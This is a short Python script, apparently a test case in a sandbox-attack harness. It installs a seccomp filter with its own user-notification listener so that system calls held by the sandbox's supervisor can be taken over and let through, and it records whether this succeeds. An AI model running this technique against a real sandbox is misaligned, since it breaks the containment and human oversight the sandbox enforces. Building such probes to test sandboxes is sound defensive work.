"""Put a filter with a supervisor of its own over the sandbox's, so that held calls continue."""

import ctypes
import struct

from attack import syscall, verdict

SECCOMP_SET_MODE_FILTER = 1
SECCOMP_FILTER_FLAG_NEW_LISTENER = 8
RETURN = 6
NOTIFY = 0x7FC00000

instruction = struct.pack("=HBBI", RETURN, 0, 0, NOTIFY)
buffer = ctypes.create_string_buffer(instruction, len(instruction))
program = struct.pack("=H6xQ", 1, ctypes.addressof(buffer))
program_buffer = ctypes.create_string_buffer(program)
result = syscall(
    "seccomp", SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, program_buffer
)
verdict(result >= 0)
